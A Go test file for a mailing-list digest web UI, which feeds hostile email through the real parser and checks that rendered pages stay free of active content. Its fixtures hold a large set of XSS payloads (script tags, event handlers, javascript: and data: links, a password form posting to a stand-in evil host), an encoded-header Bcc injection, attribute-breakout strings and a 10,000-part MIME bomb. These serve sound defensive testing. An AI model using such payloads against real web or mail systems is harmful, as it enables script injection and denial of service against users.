package webui

import (
	"context"
	"encoding/base64"
	"fmt"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"listdigest/internal/digest"
	"listdigest/internal/dispatch"
	"listdigest/internal/mailparse"
	"listdigest/internal/store"
)

// This file sends hostile list mail through the real parser and store and reads it back
// through the UI: every page must be free of anything that runs, loads or submits
// somewhere else, whatever the mail's headers and HTML say. Pages are parsed as a browser
// would (golang.org/x/net/html) and walked; string checks would miss mixed case, entities
// and attribute quoting tricks.

// hostileHTML is an HTML body with every trick the tests know of. Text that must never be
// shown says HIDDEN; text from outside the formatted-version box says ESCAPED.
const hostileHTML = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://evil.example/a.css); body{background:url(https://tracker.example/bg.gif)} p{width:expression(alert(1))}</style>
<script>alert(2)</script></head><body onload="alert(3)">
<p>Join our <b>webinar</b> with Shaun Tan.</p>
<ScRiPt>alert(4)</sCrIpT><script src="https://evil.example/x.js"></script>
<p onmouseover="alert(5)" style="background:url(https://tracker.example/p.gif)">Hover words</p>
<img src="https://tracker.example/open.gif?id=42" width=1 height=1><img src=x onerror="alert(6)">
<img src="data:image/png;base64,iVBORw0KGgo=">
<a href="javascript:alert(7)">js link</a> <a href=" JaVa&#x09;ScRiPt:alert(8)">tab link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">data link</a> <a href="vbscript:msgbox(10)">vb link</a>
<a href="https://events.example.org/tan">Register</a>
<iframe src="https://evil.example/frame">HIDDEN iframe</iframe><object data="https://evil.example/x.swf">object fallback</object>
<embed src="https://evil.example/x.swf"><form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example/b">Log in</button></form>
<svg onload="alert(11)"><script>alert(12)</script><a xlink:href="javascript:alert(13)"><text>svg link</text></a></svg>
<math><mi xlink:href="javascript:alert(14)">math</mi></math>
<div style="display:none">HIDDEN by css</div><p style="position:absolute;left:-9999px">HIDDEN offscreen</p>
<p>Try &lt;script&gt;alert(15)&lt;/script&gt; as text.</p>
<!-- <script>alert(16)</script> -->
<table><tr><td>cell<td>ESCAPED? no: cells stay inside</table>
</div></div></details></article></main><h1>ESCAPED heading</h1><form action="/t/x/done" method="post"><button>ESCAPED button</button></form>
<p>Unclosed <b>bold <i>italic <table><tr><td>open cell`

// hostileFixture stores hostile list mail, parsed and categorised as sync would.
type hostileFixture struct {
	*fixture
	htmlOnly, alternative, encoded string // thread keys
}

func newHostileFixture(t *testing.T) *hostileFixture {
	t.Helper()
	ctx := context.Background()
	st, err := store.Open(ctx, filepath.Join(t.TempDir(), "hostile.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	st.Now = func() time.Time { return now }
	enc := func(s string) string { return "=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte(s)) + "?=" }
	mails := []string{
		raw(`"<b>Mal</b> \"><script>alert(20)</script>" <mal@evil.example>`, `GEN: <b>Bold</b> "><script>alert(21)</script> <img src=x onerror=alert(22)>`,
			"html@evil.example", "Thu, 19 Nov 2026 09:00:00 +1100", "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n", hostileHTML),
		raw(enc(`<img src=x onerror=alert(23)>`)+" <mal2@evil.example>", "GEN: "+enc("<script>alert(24)</script>")+" =?UTF-8?Q?=0D=0ABcc:_x@evil.example?=",
			"enc@evil.example", "Thu, 19 Nov 2026 09:30:00 +1100", "", "Plain words <script>alert(25)</script> and javascript:alert(26) and https://ok.example/x\"onmouseover=\"alert(27)\r\n"),
		raw("Mal <mal@evil.example>", "GEN: alternative", "alt@evil.example", "Thu, 19 Nov 2026 10:00:00 +1100",
			"MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n",
			"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlain version <iframe src=https://evil.example/>\r\n"+
				"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"+hostileHTML+"\r\n--b--\r\n"),
	}
	var batch []store.Incoming
	for i, m := range mails {
		msg, perr := mailparse.Parse([]byte(m), mailparse.Options{})
		in := store.Incoming{Msg: msg, Raw: []byte(m), ParseErr: perr,
			Loc: store.Location{Source: "school", Folder: "INBOX", UIDValidity: 1, UID: uint32(i + 1)}}
		st.Understand(&in)
		batch = append(batch, in)
	}
	if _, err := st.AddMessages(ctx, batch, nil); err != nil {
		t.Fatal(err)
	}
	f := &hostileFixture{fixture: &fixture{st: st}}
	for ref, dst := range map[string]*string{"html@evil.example": &f.htmlOnly, "alt@evil.example": &f.alternative, "enc@evil.example": &f.encoded} {
		d, err := st.ThreadDetail(ctx, "", ref)
		if err != nil {
			t.Fatal(err)
		}
		*dst = d.Key
	}
	return f
}

// safeURL reports a URL attribute value a page may carry: no javascript:, vbscript: or
// data: scheme (browsers ignore case, whitespace and control characters in a scheme), and
// nothing on another site unless it is a link (href on a) that only navigates.
func unsafeScheme(v string) bool {
	v = strings.ToLower(strings.Map(func(r rune) rune {
		if r <= ' ' || r == 0x7f {
			return -1
		}
		return r
	}, v))
	for _, s := range []string{"javascript:", "vbscript:", "data:", "livescript:"} {
		if strings.HasPrefix(v, s) {
			return true
		}
	}
	return false
}

// pageProblems parses a page and lists what must not be there: elements that run, embed,
// load, style or redirect (beyond the layout's own meta and stylesheet link), forms that
// post anywhere but this UI, event handler attributes, dangerous URL schemes, and
// resources from other sites.
func pageProblems(t *testing.T, page string) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatalf("page does not parse: %v", err)
	}
	var problems []string
	add := func(format string, args ...any) { problems = append(problems, fmt.Sprintf(format, args...)) }
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			attr := map[string]string{}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if a.Namespace != "" {
					key = a.Namespace + ":" + key
				}
				attr[key] = a.Val
				if strings.HasPrefix(strings.ToLower(a.Key), "on") {
					add("<%s %s=%q>: event handler", n.Data, a.Key, a.Val)
				}
				switch strings.ToLower(a.Key) {
				case "href", "src", "action", "formaction", "data", "srcset", "poster", "background", "xlink:href", "lowsrc", "dynsrc", "ping":
					if unsafeScheme(a.Val) {
						add("<%s %s=%q>: dangerous scheme", n.Data, a.Key, a.Val)
					}
				}
			}
			if n.Namespace != "" {
				add("<%s:%s>: foreign content", n.Namespace, n.Data)
			}
			switch n.DataAtom {
			case atom.Script, atom.Iframe, atom.Frame, atom.Frameset, atom.Object, atom.Embed, atom.Applet, atom.Base,
				atom.Style, atom.Img, atom.Svg, atom.Math, atom.Video, atom.Audio, atom.Source, atom.Picture, atom.Noscript, atom.Template:
				add("<%s>: not allowed in a page", n.Data)
			case atom.Meta:
				if _, ok := attr["http-equiv"]; ok {
					add("<meta http-equiv=%q>", attr["http-equiv"])
				}
			case atom.Link:
				if attr["rel"] != "stylesheet" || attr["href"] != "/style.css" {
					add("<link rel=%q href=%q>: only the UI's stylesheet", attr["rel"], attr["href"])
				}
			case atom.Form:
				if a := attr["action"]; !strings.HasPrefix(a, "/") || strings.HasPrefix(a, "//") {
					add("<form action=%q>: posts away from the UI", a)
				}
			case atom.Button, atom.Input:
				if a, ok := attr["formaction"]; ok {
					add("<%s formaction=%q>", n.Data, a)
				}
			}
			if s, ok := attr["style"]; ok {
				add("<%s style=%q>: mail must not style the page", n.Data, s)
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return problems
}

// textOutside returns the text of the page outside the sanitised HTML boxes
// (<div class="html">), so tests can tell the page's own words from the mail's.
func textOutside(page string) (outside, inside string) {
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return "", ""
	}
	var out, in strings.Builder
	var walk func(n *html.Node, inBox bool)
	walk = func(n *html.Node, inBox bool) {
		if n.Type == html.ElementNode && n.DataAtom == atom.Div {
			for _, a := range n.Attr {
				if a.Key == "class" && a.Val == "html" {
					inBox = true
				}
			}
		}
		if n.Type == html.TextNode {
			if inBox {
				in.WriteString(n.Data + " ")
			} else {
				out.WriteString(n.Data + " ")
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, inBox)
		}
	}
	walk(doc, false)
	return out.String(), in.String()
}

// layoutProblems checks that a mail's formatted version stays in its box: each
// <div class="html"> sits in its <details> in its message's <article>, and outside the
// boxes the page has only its own structure (one <h1>, no tables, the footer a child of
// <body>). Before the fix, the mail's "</div></details>" closed the box and its
// "<h1>" and unclosed "<table>" took in the rest of the page.
func layoutProblems(t *testing.T, page string) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatalf("page does not parse: %v", err)
	}
	class := func(n *html.Node) string {
		for _, a := range n.Attr {
			if a.Key == "class" {
				return a.Val
			}
		}
		return ""
	}
	var problems []string
	h1s, boxes := 0, 0
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch {
			case n.DataAtom == atom.Div && class(n) == "html":
				boxes++
				if p := n.Parent; p == nil || p.DataAtom != atom.Details || p.Parent == nil || p.Parent.DataAtom != atom.Article ||
					!strings.HasPrefix(class(p.Parent), "message") {
					problems = append(problems, "a formatted version is not inside its <details> in its message")
				}
				return // the mail's own elements are inside the box
			case n.DataAtom == atom.H1:
				h1s++
			case n.DataAtom == atom.Table || n.DataAtom == atom.Td:
				problems = append(problems, "<"+n.Data+"> outside the formatted version")
			case n.DataAtom == atom.Footer && (n.Parent == nil || n.Parent.DataAtom != atom.Body):
				problems = append(problems, "the page footer is not a child of <body>: something left an element open")
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if h1s != 1 {
		problems = append(problems, fmt.Sprintf("%d <h1> outside the formatted version; want the page's one", h1s))
	}
	if boxes == 0 {
		problems = append(problems, "no formatted version shown")
	}
	return problems
}

// TestHostileThreadPages reads each hostile thread, the day page and search as the reader
// and checks the pages parse clean, with the mail's markup shown as text.
func TestHostileThreadPages(t *testing.T) {
	f := newHostileFixture(t)
	c := newClient(t, f.server(t, false, nil))
	pages := map[string]string{
		"html-only thread":   "/t/" + f.htmlOnly,
		"alternative thread": "/t/" + f.alternative,
		"encoded thread":     "/t/" + f.encoded,
		"day":                "/day/2026-11-19",
		"search":             "/search?q=" + "alert",
		"search for markup":  "/search?q=" + "%3Cscript%3E",
	}
	if _, err := f.st.IndexSearch(context.Background(), 100); err != nil {
		t.Fatal(err)
	}
	bodies := map[string]string{}
	for name, path := range pages {
		r := c.get(path)
		if r.status != 200 {
			t.Fatalf("%s: status %d", name, r.status)
		}
		bodies[name] = r.body
		if csp := r.header.Get("Content-Security-Policy"); csp != pageCSP {
			t.Errorf("%s: CSP %q; want %q", name, csp, pageCSP)
		}
		for _, p := range pageProblems(t, r.body) {
			t.Errorf("%s: %s", name, p)
		}
	}

	// The HTML-only post: its formatted version is there, sanitised, and everything it says
	// stays inside its box; the subject and sender name are shown as the text they are.
	page := bodies["html-only thread"]
	outside, inside := textOutside(page)
	mustContain(t, "formatted version", inside, "webinar", "Register", "Hover words", "Log in", "ESCAPED heading", "open cell")
	mustNotContain(t, "formatted version", inside, "HIDDEN")
	mustNotContain(t, "page outside the formatted version", outside, "HIDDEN")
	for _, p := range layoutProblems(t, page) {
		t.Errorf("html-only thread: %s", p)
	}
	mustContain(t, "page", outside, `<b>Bold</b> "><script>alert(21)</script> <img src=x onerror=alert(22)>`,
		`<b>Mal</b> "><script>alert(20)</script>`, "Join our *webinar* with Shaun Tan.", "Try <script>alert(15)</script> as text.")
	mustContain(t, "html", page, `href="https://events.example.org/tan"`)

	page = bodies["encoded thread"]
	outside, _ = textOutside(page)
	mustContain(t, "encoded thread", outside, "<script>alert(24)</script> Bcc: x@evil.example", "<img src=x onerror=alert(23)>",
		"Plain words <script>alert(25)</script> and javascript:alert(26)")
	// A URL in plain text becomes a link only for http(s), and cannot break out of its attribute.
	mustNotContain(t, "encoded thread", page, `href="javascript`, "\"onmouseover=\"")

	// Text/plain preferred: the HTML of a multipart/alternative post is not offered at all.
	mustNotContain(t, "alternative thread", bodies["alternative thread"], `class="html"`)
	mustContain(t, "alternative thread", bodies["alternative thread"], "Plain version &lt;iframe src=")
}

// TestHostileDigestArchive composes the reader's digest from the hostile mail with the
// real pipeline (Assemble, Compose, Message), keeps it as the dispatcher does, and reads
// it back through the archive pages: the page and the framed digest parse clean.
func TestHostileDigestArchive(t *testing.T) {
	f := newHostileFixture(t)
	ctx := context.Background()
	r := dispatch.Recipient{Name: "Jane Smith", Address: janeAddr, Location: sydney, BudgetWords: 476}
	from, to := now.Add(-24*time.Hour), now.Add(time.Minute)
	in, err := dispatch.Assemble(ctx, f.st, r, store.DigestQuery{From: from, To: to})
	if err != nil {
		t.Fatal(err)
	}
	if len(in.Items) == 0 {
		t.Fatal("the hostile mail made no digest items")
	}
	d := digest.Compose(in)
	msg, err := digest.Message(d, "Listdigest <digest@school.example.edu>", janeAddr, "hostile-digest@school.example.edu", now)
	if err != nil {
		t.Fatal(err)
	}
	rec, _, err := f.st.ClaimDigest(ctx, janeAddr, to, from, to)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.st.UpdateDigest(ctx, rec.ID, store.DigestUpdate{State: store.DigestSent, Subject: d.Subject, Words: d.Words, Threads: d.Full, Body: msg}); err != nil {
		t.Fatal(err)
	}
	c := newClient(t, f.server(t, false, nil))
	id := strconv.FormatInt(rec.ID, 10)
	page := c.get("/digests/" + id)
	// The archive page frames the digest: that one iframe, with a sandbox, is the UI's own.
	problems := pageProblems(t, page.body)
	if len(problems) != 1 || !strings.Contains(problems[0], "<iframe>") || !strings.Contains(page.body, `sandbox="allow-popups allow-popups-to-escape-sandbox"`) {
		t.Errorf("digest page problems %q; want only the UI's sandboxed iframe", problems)
	}
	mustContain(t, "digest page", page.body, "&lt;b&gt;Bold&lt;/b&gt;")
	framed := c.get("/digests/" + id + "/message")
	if csp := framed.header.Get("Content-Security-Policy"); !strings.HasPrefix(csp, "sandbox ") || !strings.Contains(csp, "default-src 'none'") {
		t.Errorf("framed digest CSP %q", csp)
	}
	for _, p := range pageProblems(t, framed.body) {
		// The digest's own HTML carries inline styles (mail clients drop style sheets) and
		// its meta tags; nothing else may be flagged.
		if !strings.Contains(p, "style=") {
			t.Errorf("framed digest: %s", p)
		}
	}
	mustContain(t, "framed digest", framed.body, "&lt;b&gt;Bold&lt;/b&gt; &#34;&gt;&lt;script&gt;alert(21)&lt;/script&gt;")
}

// TestHostileHTMLPartCost checks that showing an HTML-only post costs the UI work in
// proportion to its HTML, not to the rest of the message: a 10,000-part MIME bomb after
// the HTML part was walked to the end on every view of the thread.
func TestHostileHTMLPartCost(t *testing.T) {
	var sb strings.Builder
	sb.WriteString("From: Mal <mal@evil.example>\r\nSubject: bomb\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n" +
		"--b0\r\nContent-Type: text/html\r\n\r\n<p>first</p>\r\n")
	for i := 0; i < 10000; i++ {
		sb.WriteString("--b0\r\nContent-Type: text/plain\r\n\r\nx\r\n")
	}
	// and a deep nest at the end
	for i := 1; i <= 1000; i++ {
		fmt.Fprintf(&sb, "--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n", i-1, i)
	}
	sb.WriteString("--b1000--\r\n")
	raw := []byte(sb.String())
	start := time.Now()
	for i := 0; i < 10; i++ {
		got, err := mailparse.FirstPart(raw, "text/html", maxHTMLPart)
		if err != nil || got != "<p>first</p>" {
			t.Fatalf("FirstPart = %q, %v", got, err)
		}
	}
	d := time.Since(start) / 10
	t.Logf("FirstPart on a %.1f MB bomb: %v", float64(len(raw))/(1<<20), d)
	// A runaway guard, not a benchmark: reading the first part takes well under a millisecond.
	if d > 200*time.Millisecond {
		t.Errorf("FirstPart took %v per call", d)
	}
}
